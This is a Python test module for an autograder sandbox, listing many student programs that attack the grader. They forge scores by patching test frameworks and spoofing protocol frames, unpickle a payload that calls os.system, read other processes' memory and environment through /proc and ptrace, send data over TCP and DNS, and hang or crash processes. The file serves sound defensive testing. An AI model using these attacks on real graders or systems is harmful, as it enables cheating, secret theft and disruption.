"""What student code may try: one short program a line, named for what it tries.

Each replaces the function `double` of a small stage (see `yard.py`), or does its harm while it is loaded.
``stopped_by`` names the layers of which each alone stops it: with none it is stopped everywhere, by the process
boundary and the protocol. Where it is not stopped it does ``harm``, and `test_attacks.py` proves both.
"""

from dataclasses import dataclass

from capas.sandbox import MAX_LEVEL, Limits
from capas.sandbox.confinement import LAYER_LEVELS

FORGE, READ, CRASH = "Forge the score", "Read the secret", "Crash, hang, flood"
ALL_POINTS = 5.0
NOTHING_STOPS_IT = "nothing"
CAP_SYS_NICE, CAP_SYS_RESOURCE = 23, 24

# Programs tell by `done()` that something worked which should not have, and by `tell()` what they have read.
HARM = {
    "forges": "gets points that its code does not earn",
    "spoils": "takes points from another question, or from its own right answer",
    "leaks": "gets something secret into its feedback",
    "gets through": "does what it set out to do",
    "harms others": "kills, stops or changes the grader, another submission or a file of the course",
    "stays": "leaves a process running",
    "writes": "leaves a file outside its own folder",
    "calls out": "opens a connection",
    "floods": "makes the result huge",
    "holds up": "holds the grader up beyond its deadlines",
}


@dataclass(frozen=True)
class Attack:
    """One program.

    ``earns`` are the points of `double` that it gets at every level, and that it is worth: all of them where the
    function itself is right. ``keeps`` says that `shift`, which is right, keeps its points. ``sources`` are handed in
    one after the other. A ``dangerous`` one would hit the machine where it is not stopped. Without the capabilities it
    ``needs`` it cannot do its harm anywhere.
    """

    name: str
    category: str
    sources: tuple[str, ...]
    earns: float = 0.0
    keeps: bool = True
    stopped_by: tuple[str, ...] = ()
    harm: str = ""
    hangs: bool = False
    dangerous: bool = False
    limits: Limits | None = None
    needs: tuple[int, ...] = ()

    @property
    def level(self) -> int:
        """The lowest level at which it is stopped; one more than there are when it never is."""
        if not self.stopped_by:
            return 0
        return min(LAYER_LEVELS.get(layer, MAX_LEVEL + 1) for layer in self.stopped_by)

    def is_stopped(self, present: set[str]) -> bool:
        """Tell whether it is stopped where the layers ``present`` are on."""
        return not self.stopped_by or bool(present & set(self.stopped_by))


PROGRAMS: list[Attack] = []


def attack(name: str, category: str, *sources: str, **more: object) -> None:
    if any("def double" not in source and "double =" not in source for source in sources[-1:]):
        more.setdefault("earns", ALL_POINTS)
    PROGRAMS.append(Attack(name, category, tuple(sources), **more))  # type: ignore[arg-type]


# Layers that stop a kind of thing.
OTHER_USER = ("uid", "landlock")  # files that only the grader may open, its processes
OTHER_PROCESS = ("uid", "seccomp", "namespaces")
FILES = ("landlock",)
CALLS = ("seccomp",)
MANY_PROCESSES = ("uid", "userns", "seccomp")

# What a program can do that has read our code: find the pipe, and the question that is being answered.
PIPE = """
import msgspec, struct, sys, time
from capas.sandbox import wire

def asked():
    frame = sys._getframe(1)
    while "message" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["self"]._connection, frame.f_locals["message"].number

def frame(data):
    return struct.pack("!I", len(data)) + data

def returned(number, value):
    return frame(wire.encode(wire.Returned(number, wire.pack(value))))
"""

# --- Forge the score ---

EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 2
    def __getitem__(self, index): return self
    def __float__(self): return 4.0
    __hash__ = None
"""
attack("returns an object equal to everything", FORGE, f"{EQUAL}\ndef double(x, **k): return Equal()")
attack(
    "returns a list of objects equal to everything", FORGE, f"{EQUAL}\ndef double(x, **k): return [Equal() for _ in x]"
)
attack(
    "returns an array subclass whose comparisons lie",
    FORGE,
    """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
    def __array_function__(self, *a, **k): return True
def double(x, **k): return np.zeros(len(x)).view(Liar)
""",
)
attack(
    "returns floats of a class of its own, equal to everything",
    FORGE,
    """
class Any(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __le__(self, other): return True
def double(x, **k): return [Any(0) for _ in x]
""",
)
attack(
    "returns an array of objects equal to everything",
    FORGE,
    """
import numpy as np
class Equal:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
def double(x, **k): return np.array([Equal() for _ in x], dtype=object)
""",
)
attack(
    "returns an object that turns into another array each time it is asked",
    FORGE,
    """
import numpy as np
class Chameleon:
    times = 0
    def __array__(self, *a, **k):
        Chameleon.times += 1
        return np.full(2, float(self.times))
def double(x, **k): return Chameleon()
""",
)
attack(
    "patches NumPy's comparisons and numpy.testing",
    FORGE,
    """
import numpy as np, numpy.testing
for name in ("allclose", "isclose", "array_equal", "all", "isfinite"): setattr(np, name, lambda *a, **k: True)
for name in ("assert_allclose", "assert_equal", "assert_array_equal"): setattr(np.testing, name, lambda *a, **k: None)
np.abs = np.subtract = lambda *a, **k: np.zeros(2)
def double(x, **k): return [0.0] * len(x)
""",
)
attack(
    "patches the checks of the judge",
    FORGE,
    """
from capas_check import statements
for name in ("returns", "leaves_arguments", "array", "warns_nothing"):
    setattr(statements.Call, name, lambda self, *a, **k: self)
def double(x, **k): return None
""",
)
attack(
    "patches doctest, unittest and pytest",
    FORGE,
    """
import doctest, unittest, sys, types
doctest.OutputChecker.check_output = lambda *a: True
unittest.TestCase.assertEqual = lambda *a, **k: None
sys.modules["pytest"] = types.ModuleType("pytest")
def double(x, **k): return None
""",
)
attack(
    "patches Otter",
    FORGE,
    """
import importlib, sys
sys.modules.pop("otter", None)
test = importlib.import_module("otter.test_files.abstract_test")
test.TestFile.score = property(lambda self: 1e6)
test.TestFile.passed_all = True
def double(x, **k): return None
""",
    keeps=True,
)
attack(
    "patches the protocol and the judge's side of the sandbox",
    FORGE,
    """
from capas.sandbox import host, wire
host.Sandbox.call = lambda *a: [2.0, 4.0]
wire.decode_for_host = lambda data: wire.Returned(1, [2.0, 4.0])
def double(x, **k): return None
""",
)
attack(
    "looks for the judge in the frames that called it",
    FORGE,
    """
import sys
def double(x, **k):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            for name in ("score", "points", "passed", "expected", "test_case_results"):
                if hasattr(value, name):
                    try: setattr(value, name, True)
                    except Exception: pass
        frame = frame.f_back
""",
)
attack(
    "looks for the judge among all objects",
    FORGE,
    """
import gc
def double(x, **k):
    for value in gc.get_objects():
        if type(value).__name__ in ("JudgeFile", "WatchedTestFile", "TestCaseResult", "CaseResult", "Grader"):
            value.passed = value.score = True
""",
)
attack(
    "defines what looks like a score",
    FORGE,
    """
score = __score__ = grade = 8
passed = passed_all = True
points = {"double": 5}
results = test_case_results = [{"passed": True, "score": 5}]
class CheckFailure(Exception): kind = "passed"
def call(*a): return None
def returns(*a): return True
def double(x, **k): raise CheckFailure("passed")
""",
)
attack(
    "names functions as what the judge uses",
    FORGE,
    """
for name in ("__builtins__", "__import__", "get", "env", "np", "isinstance", "print", "call", "test_case"):
    globals()[name] = lambda *a, **k: True
def double(x, **k): return None
""",
)
RAISED = {
    "SystemExit(0)": "ends with exit code 0",
    "KeyboardInterrupt": "interrupts the judge",
    "StopIteration([2.0, 4.0])": "raises the end of an iteration",
    "GeneratorExit": "raises the end of a generator",
    "unittest.SkipTest('skip')": "skips the test",
    "type('Passed', (BaseException,), {})()": "raises what nobody catches",
}
for raised, name in RAISED.items():
    attack(name, FORGE, f"import unittest\ndef double(x, **k): raise {raised}")
attack("calls exit(0)", FORGE, "def double(x, **k): exit(0)")
attack("calls exit(0) while it is loaded", FORGE, "exit(0)")
attack(
    "prints results as JSON",
    FORGE,
    """
import json
def double(x, **k):
    print(json.dumps({"score": 5, "tests": [{"name": "double", "score": 5, "status": "passed"}]}))
""",
)
attack(
    "writes results as JSON on the descriptors of standard output",
    FORGE,
    """
import os
def double(x, **k):
    for descriptor in (1, 2): os.write(descriptor, b'{"score": 5, "max_score": 5, "passed": true}\\n')
""",
)
attack(
    "writes a result of its own",
    FORGE,
    """
open(RESULTS + "/attacker.json", "w").write('{"score": 8}')
""",
    stopped_by=OTHER_USER,
    harm="harms others",
)
attack(
    "changes the grades of all",
    FORGE,
    """
open(RESULTS + "/grades.csv", "a").write("attacker,8\\n")
""",
    stopped_by=OTHER_USER,
    harm="harms others",
)
attack(
    "writes grades when it ends",
    FORGE,
    """
import atexit
atexit.register(lambda: open(RESULTS + "/grades.csv", "a").write("attacker,8\\n"))
def double(x, **k): return None
""",
)
attack(
    "overwrites the tests",
    FORGE,
    """
open(TESTS + "/double.py", "w").write("name = 'double'")
""",
    stopped_by=OTHER_USER,
    harm="harms others",
)
attack(
    "opens the grader's own code for writing",
    FORGE,
    """
open(CODE, "r+").close()
done()
""",
    stopped_by=OTHER_USER,
    harm="gets through",
)
attack(
    "opens the grader's memory for writing",
    FORGE,
    """
open(f"/proc/{GRADER}/mem", "r+b").close()
done()
""",
    stopped_by=OTHER_USER,
    harm="gets through",
)
attack(
    "opens the fork server's memory for writing",
    FORGE,
    """
open(f"/proc/{os.getppid()}/mem", "r+b").close()
done()
""",
    stopped_by=OTHER_USER,
    harm="gets through",
)
attack(
    "changes its arguments to what it returns",
    FORGE,
    """
def double(x, **k):
    x[:] = [0.0] * len(x)
    return x
""",
)
attack(
    "makes its arguments say that they are right",
    FORGE,
    f"""{EQUAL}
def double(x, **k):
    x[:] = [Equal() for _ in x]
    return x
""",
)
for value in ("float('nan')", "float('inf')", "-float('inf')", "1e308 * v", "None", "True", "str(2 * v)", "2 * v + 0j"):
    attack(f"returns {value} for every number v", FORGE, f"def double(x, **k): return [{value} for v in x]")
attack(
    "knows the answers to the public cases",
    FORGE,
    """
def double(x, **k): return [2.0, 4.0]
""",
    earns=1.0,
)
attack(
    "is right on its first call only",
    FORGE,
    """
calls = []
def double(x, label="", through=None):
    calls.append(x)
    return [2 * v for v in x] if len(calls) == 1 else None
""",
    earns=1.0,
)
attack(
    "is right until it has been loaded twice",
    FORGE,
    """
import os
right = not os.path.exists("again")
open("again", "w").close()
def double(x, label="", through=None):
    values = [2 * v for v in x] if right else None
    return [through(v) for v in values] if through else values
""",
    earns=ALL_POINTS,
)
attack(
    "answers with a field more, the score",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(frame(msgspec.msgpack.encode({"type": "returned", "number": number, "value": [2.0, 4.0], "score": 5})))
""",
)
attack(
    "answers another question than the one asked",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(returned(number + 1, [0.0, 0.0]))
""",
)
attack(
    "answers twice",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(returned(number, [0.0, 0.0]))
    return [1.0, 1.0]
""",
)
attack(
    "answers the next questions before they are asked",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    for ahead in range(10): pipe.sendall(returned(number + ahead, [2.0, 4.0]))
""",
    earns=1.0,
)
attack(
    "answers by calling a function that it was not given",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    for function in (0, 7, -1): pipe.sendall(frame(wire.encode(wire.CallBack(1, function, [], {}))))
""",
)
attack(
    "says that arguments changed which it was never given",
    FORGE,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(frame(wire.encode(wire.Returned(number, [0.0, 0.0], {-1: [0.0], 1: [2.0, 4.0], 99: 1}))))
    time.sleep(600)
""",
    hangs=True,
)
attack(
    "says that it has functions of other names",
    FORGE,
    PIPE
    + """
pipe, number = asked()
names = ["double", "shift", "__builtins__", "call", "test_case", "__class__", "", "\\0"]
pipe.sendall(frame(wire.encode(wire.Loaded(number, names, names, [""]))))
def double(x, **k): return None
""",
    keeps=False,
)

PICKLE = (
    PIPE
    + """
import pickle
class Bomb:
    def __reduce__(self): return (os.system, (f"touch {OPEN}/unpickled",))
bomb = pickle.dumps(Bomb())
"""
)
attack(
    "answers with a pickle",
    FORGE,
    PICKLE
    + """
def double(x, **k):
    asked()[0].sendall(frame(bomb))
""",
)
attack("returns a pickle", FORGE, PICKLE + "def double(x, **k): return bomb")
attack(
    "answers with an array of objects that is a pickle",
    FORGE,
    PICKLE
    + """
def double(x, **k):
    pipe, number = asked()
    array = msgspec.msgpack.Ext(wire.ARRAY, msgspec.msgpack.encode(["|O", [1], bomb]))
    pipe.sendall(frame(wire.encode(wire.Returned(number, array))))
""",
)

# --- Read the secret ---

attack("opens the tests", READ, "tell(open(TESTS + '/double.py').read())", stopped_by=FILES, harm="leaks")
attack("lists the grader's folders", READ, "done(os.listdir(TESTS))", stopped_by=FILES, harm="gets through")
attack("opens a file beside the tests", READ, "tell(open(ANSWERS).read())", stopped_by=FILES, harm="leaks")
attack(
    "opens the tests by a path relative to its own folder",
    READ,
    """
tell(open(os.path.relpath(ANSWERS)).read())
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "goes to the folder of the tests and looks around",
    READ,
    """
os.chdir(TESTS)
tell(open("answers.txt").read())
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "opens the tests through its own root in /proc",
    READ,
    """
tell(open("/proc/self/root" + ANSWERS).read())
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "makes a link to the tests in its own folder",
    READ,
    """
os.symlink(ANSWERS, "mine")
tell(open("mine").read())
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "imports the tests",
    READ,
    """
import importlib.util
spec = importlib.util.spec_from_file_location("tests", TESTS + "/double.py")
module = importlib.util.module_from_spec(spec)
try: spec.loader.exec_module(module)
except ImportError: pass
import linecache
tell("".join(linecache.getlines(TESTS + "/double.py")))
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "opens a file that only the grader may open",
    READ,
    "tell(open(PRIVATE).read())",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "opens the tests through the grader's folder in /proc",
    READ,
    """
tell(open(f"/proc/{GRADER}/cwd/tests/answers.txt").read())
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "reads the grader's memory",
    READ,
    """
for line in open(f"/proc/{GRADER}/maps"):
    place, rights = line.split()[:2]
    if "w" in rights:
        start, stop = (int(number, 16) for number in place.split("-"))
        with open(f"/proc/{GRADER}/mem", "rb") as memory:
            memory.seek(start)
            try: data = memory.read(stop - start)
            except OSError: continue
        if b"canary-memory" in data: tell(data)
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "reads the grader's memory by a system call of its own",
    READ,
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for line in open(f"/proc/{GRADER}/maps"):
    place, rights = line.split()[:2]
    if "w" in rights:
        start, stop = (int(number, 16) for number in place.split("-"))
        buffer = ctypes.create_string_buffer(stop - start)
        there, here = Part(start, stop - start), Part(ctypes.addressof(buffer), stop - start)
        libc.process_vm_readv(GRADER, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if b"canary-memory" in buffer.raw: tell(buffer.raw)
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "reads the grader's environment",
    READ,
    """
tell(open(f"/proc/{GRADER}/environ", "rb").read())
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "reads the grader's command line",
    READ,
    """
done(open(f"/proc/{GRADER}/cmdline").read())
""",
    stopped_by=FILES,
    harm="gets through",
)
attack(
    "attaches a debugger to the grader",
    READ,
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, GRADER, None, None) == 0:
    os.waitpid(GRADER, 0x40000000)
    libc.ptrace(17, GRADER, None, None)
    done()
""",
    stopped_by=(*OTHER_USER, "seccomp"),
    harm="gets through",
)
attack(
    "attaches a debugger to the fork server",
    READ,
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
if libc.ptrace(16, parent, None, None) == 0:
    os.waitpid(parent, 0x40000000)
    libc.ptrace(17, parent, None, None)
    done()
""",
    stopped_by=(*OTHER_USER, "seccomp"),
    harm="gets through",
)
attack(
    "looks for secrets in the fork server",
    READ,
    """
parent, found = os.getppid(), b""
for name in ("environ", "cmdline"):
    try: found += open(f"/proc/{parent}/{name}", "rb").read()
    except OSError: pass
try:
    for line in open(f"/proc/{parent}/maps"):
        place, rights = line.split()[:2]
        start, stop = (int(number, 16) for number in place.split("-"))
        if "w" in rights:
            with open(f"/proc/{parent}/mem", "rb") as memory:
                memory.seek(start)
                try: found += memory.read(stop - start)
                except OSError: continue
except OSError: pass
if b"canary-" + b"memory" in found or b"canary-" + b"token" in found: tell(found)
""",
)
attack("looks for secrets in its environment", READ, "tell(dict(os.environ))")
attack(
    "looks for secrets among all objects",
    READ,
    """
import gc
for value in gc.get_objects():
    if isinstance(value, dict):
        for each in list(value.values()):
            for kind in ("memory", "environment", "answers", "private", "token", "closure", "comment"):
                if type(each) is str and "canary" + "-" + kind in each: tell(each)
""",
)
attack(
    "looks for secrets in the frames that called it",
    READ,
    """
import sys
def double(x, **k):
    frame, seen = sys._getframe(1), []
    while frame:
        seen += [repr(value) for value in frame.f_locals.values() if "x" not in frame.f_locals]
        frame = frame.f_back
    raise ValueError("".join(text for text in seen if "canary" in text or "62674" in text))
""",
)
attack(
    "looks for secrets in its own memory",
    READ,
    """
import re
secret = re.compile(rb"[c]anary-(memory|environment|answers|private|token|closure|comment|of-a-neighbour|at-work)")
try: maps = open("/proc/self/maps").read().splitlines()
except OSError: maps = []
with open("/proc/self/mem", "rb") if maps else open(os.devnull, "rb") as memory:
    for line in maps:
        place, rights = line.split()[:2]
        start, stop = (int(number, 16) for number in place.split("-"))
        if "r" in rights and "[v" not in line:
            memory.seek(start)
            try: data = memory.read(stop - start)
            except (OSError, ValueError, OverflowError): continue
            if found := secret.search(data): tell(found.group())
""",
)
attack(
    "reads what its descriptors lead to",
    READ,
    """
import stat
found = b""
for descriptor in range(3, 64):
    try: kind = os.fstat(descriptor).st_mode
    except OSError: continue
    if stat.S_ISREG(kind): found += os.read(descriptor, 10**6)
    if stat.S_ISDIR(kind):
        up = "../" * 20
        for path in (PRIVATE, "/root/.bashrc", "/etc/shadow"):
            try: found += open(os.open(up + path[1:], os.O_RDONLY, dir_fd=descriptor), "rb").read()
            except OSError: pass
if found: done(found)
""",
)
attack(
    "prints hidden inputs",
    READ,
    """
import sys
def double(x, label="", through=None):
    print(x, label); print(x, label, file=sys.stderr)
    for descriptor in (1, 2): os.write(descriptor, f"{x} {label}".encode())
    sys.__stdout__ and sys.__stdout__.write(f"{x} {label}")
""",
)
attack("raises hidden inputs", READ, "def double(x, label='', through=None): raise ValueError(f'{x} {label}')")
attack(
    "raises hidden inputs as the name of an exception",
    READ,
    """
def double(x, label="", through=None): raise type(f"{label}{x}", (Exception,), {})()
""",
)
attack(
    "raises hidden inputs as a note, a cause and a traceback",
    READ,
    """
def double(x, label="", through=None):
    try: raise KeyError(f"{x} {label}")
    except KeyError as cause:
        error = ValueError("no")
        error.add_note(f"{x} {label}")
        source = f"def f(error, cause):\\n  raise error from cause # {x} {label}"
        exec(compile(source, f"{label}{x}", "exec"), globals())
        f(error, cause)
""",
)
attack(
    "warns of hidden inputs",
    READ,
    """
import warnings
def double(x, label="", through=None):
    for kind in (UserWarning, RuntimeWarning, SyntaxWarning): warnings.warn(f"{x} {label}", kind)
""",
)
attack(
    "returns hidden inputs in a result of another type",
    READ,
    """
def double(x, label="", through=None): return {"x": x, "label": [label]}
""",
)
attack(
    "answers with hidden inputs as the name of its error",
    READ,
    PIPE
    + """
def double(x, label="", through=None):
    pipe, number = asked()
    pipe.sendall(frame(wire.encode(wire.Raised(number, f"{x}{label}", f"{x}{label}", unsendable=bool(label)))))
""",
)
attack(
    "remembers hidden inputs and raises them in the next question's public case",
    READ,
    """
seen = []
def double(x, label="", through=None): seen.append((x, label))
def shift(x): raise ValueError(repr(seen))
""",
    keeps=False,
)
attack(
    "remembers hidden inputs and returns them in the next question's public case",
    READ,
    """
seen = []
def double(x, label="", through=None): seen.append(x)
def shift(x): return [seen]
""",
    keeps=False,
)
attack(
    "keeps hidden inputs in its own folder for the next question",
    READ,
    """
def double(x, label="", through=None): open("seen", "a").write(f"{x} {label}")
def shift(x): raise ValueError(open("seen").read())
""",
    keeps=False,
)
attack(
    "keeps hidden inputs in a file for the next question",
    READ,
    """
def double(x, label="", through=None): open(OPEN + "/seen", "a").write(f"{x} {label}")
def shift(x): raise ValueError(open(OPEN + "/seen").read())
""",
    keeps=False,
    stopped_by=FILES,
    harm="leaks",
)
CRASH_ON_HIDDEN = """
if os.path.exists(OPEN + "/seen"): tell(open(OPEN + "/seen").read())
def double(x, label="", through=None):
    if label:
        open(OPEN + "/seen", "w").write(label)
        os._exit(1)
    return [through(2 * v) for v in x] if through else [2 * v for v in x]
"""
attack(
    "crashes on hidden inputs and tells them when it is loaded again",
    READ,
    CRASH_ON_HIDDEN,
    earns=4.0,
    stopped_by=FILES,
    harm="writes",
)
attack(
    "crashes on hidden inputs and tells them when it is handed in again",
    READ,
    CRASH_ON_HIDDEN,
    "tell(open(OPEN + '/seen').read())",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "leaves hidden inputs in /dev/shm for the next student",
    READ,
    """
def double(x, label="", through=None):
    open(SHM, "a").write(f"{x} {label}")
    os.chmod(SHM, 0o666)
""",
    """
tell(open(SHM).read())
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "leaves hidden inputs in its folder for the next student",
    READ,
    """
def double(x, label="", through=None):
    open("seen", "a").write(f"{x} {label}")
    os.chmod("seen", 0o666); os.chmod(".", 0o777)
""",
    """
number = int(os.path.basename(os.getcwd()))
for before in range(number):
    path = os.path.join("..", str(before), "seen")
    if os.path.exists(path): tell(open(path).read())
""",
)
attack(
    "leaves hidden inputs in modules, in the environment and in shared libraries for the next student",
    READ,
    """
import builtins, sys
import numpy as np
def double(x, label="", through=None):
    builtins.seen = np.seen = sys.seen = os.environ["SEEN"] = f"{x} {label}"
""",
    """
import builtins, sys
import numpy as np
for place in (builtins, np, sys):
    if hasattr(place, "seen"): tell(place.seen)
if "SEEN" in os.environ: tell(os.environ["SEEN"])
""",
)
SHARED_MEMORY = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
"""
attack(
    "leaves hidden inputs in shared memory of System V for the next student",
    READ,
    SHARED_MEMORY
    + """
def double(x, label="", through=None):
    if label:
        number = libc.shmget(KEY, 4096, 0o1666)
        if number < 0: return
        address = libc.shmat(number, None, 0)
        ctypes.memmove(address, label.encode(), len(label))
""",
    SHARED_MEMORY
    + """
number = libc.shmget(KEY, 4096, 0o666)
if number >= 0:
    text = ctypes.string_at(libc.shmat(number, None, 0))
    libc.shmctl(number, 0, None)
    tell(text)
""",
    stopped_by=CALLS,
    harm="leaks",
)
attack(
    "opens another student's submission",
    READ,
    """
tell(open(SUBMISSIONS + "/neighbour.py").read().split("#")[1])
""",
    stopped_by=FILES,
    harm="leaks",
)
attack(
    "opens a file of a submission that is being graded",
    READ,
    """
tell(open(NEIGHBOURS_FOLDER + "/work.txt").read())
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "reads the memory of a submission that is being graded",
    READ,
    """
for line in open(f"/proc/{NEIGHBOUR}/maps"):
    place, rights = line.split()[:2]
    if "w" in rights:
        start, stop = (int(number, 16) for number in place.split("-"))
        with open(f"/proc/{NEIGHBOUR}/mem", "rb") as memory:
            memory.seek(start)
            try: data = memory.read(stop - start)
            except OSError: continue
        found = data.find(b"canary-at-work")
        if found >= 0: tell(data[found:])
""",
    stopped_by=OTHER_USER,
    harm="leaks",
)
attack(
    "lists the folders of submissions that are being graded",
    READ,
    """
done(os.listdir(os.path.dirname(NEIGHBOURS_FOLDER)))
""",
    stopped_by=OTHER_USER,
    harm="gets through",
)
attack(
    "sends what it knows over TCP",
    READ,
    """
import socket
socket.create_connection(("127.0.0.1", TCP), timeout=5).sendall(b"hello")
""",
    stopped_by=("seccomp", "namespaces"),
    harm="calls out",
)
attack(
    "asks a name server for a name that holds what it knows",
    READ,
    """
import socket
query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", UDP))
""",
    stopped_by=("seccomp", "namespaces"),
    harm="calls out",
)
attack(
    "connects to a socket among the grader's files",
    READ,
    """
import socket
socket.socket(socket.AF_UNIX).connect(SOCKET)
""",
    stopped_by=CALLS,
    harm="calls out",
)
attack(
    "looks into a function that the judge gave it",
    READ,
    """
def double(x, label="", through=None):
    if through is None: return [2 * v for v in x]
    seen = []
    for name in ("__closure__", "__globals__", "__code__", "__defaults__", "__self__", "__wrapped__", "__dict__"):
        seen.append(getattr(through, name, None))
    seen += [cell.cell_contents for cell in through.__closure__ or ()]
    raise ValueError(repr(seen))
""",
    earns=4.0,
)
attack(
    "calls a function that the judge gave it with whatever it likes",
    READ,
    """
def double(x, label="", through=None):
    if through is None: return [2 * v for v in x]
    seen = []
    for value in (None, "x", [], {}, float("nan"), 10**400, "__globals__", b"x", 1.0):
        try: seen.append(through(value))
        except Exception as error: seen.append(str(error))
    try: through(secret="?")
    except Exception as error: seen.append(str(error))
    raise ValueError(repr(seen))
""",
    earns=4.0,
)
attack(
    "calls a function of the judge after its case is over",
    READ,
    """
kept = []
def double(x, label="", through=None):
    if through is None: return [2 * v for v in x]
    kept.append(through)
    return [through(2 * v) for v in x]
def shift(x): return [kept[0](v) for v in x] if kept else [v + 1 for v in x]
""",
    earns=ALL_POINTS,
)
attack(
    "sees which processes the machine runs",
    READ,
    """
if os.path.exists(f"/proc/{GRADER}"): done()
""",
    stopped_by=("namespaces",),
    harm="gets through",
)
attack(
    "learns that a file of a known name exists, and how large it is",
    READ,
    """
done(os.stat(ANSWERS).st_size)
""",
    stopped_by=(NOTHING_STOPS_IT,),
    harm="gets through",
)

# --- Crash, hang, flood ---

attack(
    "loops for ever and swallows exceptions",
    CRASH,
    """
def double(x, **k):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    hangs=True,
)
attack(
    "ignores all signals",
    CRASH,
    """
import signal, time
def double(x, **k):
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True: time.sleep(600)
""",
    hangs=True,
)
attack(
    "waits for ever in C",
    CRASH,
    """
def double(x, **k): return sum(iter(int, 1))
""",
    hangs=True,
)
attack(
    "sleeps for ever in a thread that cannot be joined",
    CRASH,
    """
import threading, time
def double(x, **k):
    thread = threading.Thread(target=time.sleep, args=(600,))
    thread.start(); thread.join()
""",
    hangs=True,
)
attack(
    "stops itself",
    CRASH,
    """
import signal
def double(x, **k): os.kill(os.getpid(), signal.SIGSTOP)
""",
    hangs=True,
    stopped_by=(),
)
attack("hangs while it is loaded", CRASH, "while True: pass", hangs=True, earns=0.0, keeps=False)
attack(
    "hangs in the text of its exception",
    CRASH,
    """
class Endless(Exception):
    def __str__(self):
        while True: pass
def double(x, **k): raise Endless
""",
    hangs=True,
)
attack(
    "returns a list without end",
    CRASH,
    """
class Endless(list):
    def __iter__(self):
        while True: yield 0.0
def double(x, **k): return Endless([1.0, 2.0])
""",
    hangs=True,
)
attack(
    "calls a function of the judge for ever",
    CRASH,
    """
def double(x, label="", through=None):
    if through is None: return [2 * v for v in x]
    while True: through(1.0)
""",
    hangs=True,
    earns=4.0,
)
attack(
    "sleeps just under the limit in every case",
    CRASH,
    """
import time
def double(x, label="", through=None):
    time.sleep(0.3)
    return [through(2 * v) for v in x] if through else [2 * v for v in x]
""",
    hangs=True,
    earns=ALL_POINTS,
)
attack(
    "sleeps just under the limit until its time is used up",
    CRASH,
    """
import time
calls = []
def double(x, label="", through=None):
    calls.append(x)
    time.sleep(1.2 if len(calls) > 1 else 0)
    return [2 * v for v in x]
""",
    earns=2.0,
    keeps=False,
    limits=Limits(load_seconds=20, call_seconds=2, program_seconds=1, memory_mb=256),
)
attack(
    "answers drop by drop",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, _ = asked()
    pipe.sendall(struct.pack("!I", 10**6))
    while True:
        pipe.sendall(b"x")
        time.sleep(0.01)
""",
    hangs=True,
)
attack(
    "replaces itself by another program",
    CRASH,
    """
def double(x, **k): os.execv("/bin/sleep", ["sleep", "98765.4321"])
""",
    hangs=True,
)
attack("recurses without end", CRASH, "def double(x, **k): return double(x)")
attack(
    "recurses until the stack overflows",
    CRASH,
    """
import sys
sys.setrecursionlimit(10**9)
def deeper(x): return [deeper(x)]
def double(x, **k): return max(map(double, [x]))
""",
)
attack("reads where no memory is", CRASH, "import ctypes\ndef double(x, **k): ctypes.string_at(0)")
attack(
    "reads where no memory is while it is loaded", CRASH, "import ctypes\nctypes.string_at(0)", earns=0.0, keeps=False
)
attack("aborts", CRASH, "def double(x, **k): os.abort()")
attack("ends its process without a word", CRASH, "def double(x, **k): os._exit(0)")
attack("ends its process without a word while it is loaded", CRASH, "os._exit(0)", earns=0.0, keeps=False)
attack("kills itself", CRASH, "import signal\ndef double(x, **k): os.kill(os.getpid(), signal.SIGKILL)\n")
attack("kills its process group", CRASH, "import signal\ndef double(x, **k): os.killpg(0, signal.SIGKILL)\n")
attack(
    "kills the fork server",
    CRASH,
    """
import signal, time
def double(x, **k):
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(600)
""",
    stopped_by=("rlimits", *OTHER_PROCESS),
    harm="stays",
    hangs=True,
)
attack(
    "stops the fork server",
    CRASH,
